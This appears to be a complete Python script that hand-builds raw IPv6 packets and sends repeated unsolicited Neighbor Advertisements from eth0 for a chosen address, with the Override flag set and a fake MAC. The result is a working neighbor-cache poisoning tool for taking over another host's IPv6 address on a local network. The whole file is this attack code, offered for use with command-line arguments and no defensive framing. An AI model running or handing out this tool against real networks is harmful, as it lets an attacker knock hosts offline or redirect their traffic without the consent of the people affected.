"""Takes an IPv6 address as a careless host would: taker.py ADDRESS TIMES sends as many unsolicited Neighbor Advertisements
(RFC 4861 §7.2.6) from eth0, with a MAC that nobody knows, a little apart."""

import ipaddress
import socket
import struct
import sys
import time

MAC = bytes.fromhex("02bad0bad0ba")
ALL_NODES = ipaddress.ip_address("ff02::1").packed


def checksum(source, destination, message):
    data = source + destination + struct.pack("!IBBBB", len(message), 0, 0, 0, 58) + message
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(address):
    body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + address + b"\x02\x01" + MAC
    body = body[:2] + struct.pack("!H", checksum(address, ALL_NODES, body)) + body[4:]
    header = struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + address + ALL_NODES
    return bytes.fromhex("333300000001") + MAC + struct.pack("!H", 0x86DD) + header + body


address = ipaddress.ip_address(sys.argv[1]).packed
with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
    wire.bind(("eth0", 0))
    for _ in range(int(sys.argv[2])):
        wire.send(advertisement(address))
        time.sleep(0.2)
